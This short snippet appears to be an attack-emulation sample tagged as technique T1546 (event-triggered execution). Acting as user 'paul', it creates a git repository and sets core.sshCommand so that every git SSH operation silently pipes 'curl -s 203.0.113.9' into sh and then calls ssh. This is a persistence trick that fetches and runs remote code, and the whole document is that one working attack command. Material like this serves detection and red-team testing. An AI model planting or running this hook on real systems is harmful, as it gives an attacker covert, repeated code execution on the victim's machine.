# technique: T1546
# location: linux.git.user-repository
# source: /home/paul/projet/.git/config
su paul -c 'git init -q ~/projet && git -C ~/projet config core.sshCommand "sh -c \"(curl -s 203.0.113.9 | sh); ssh\""'
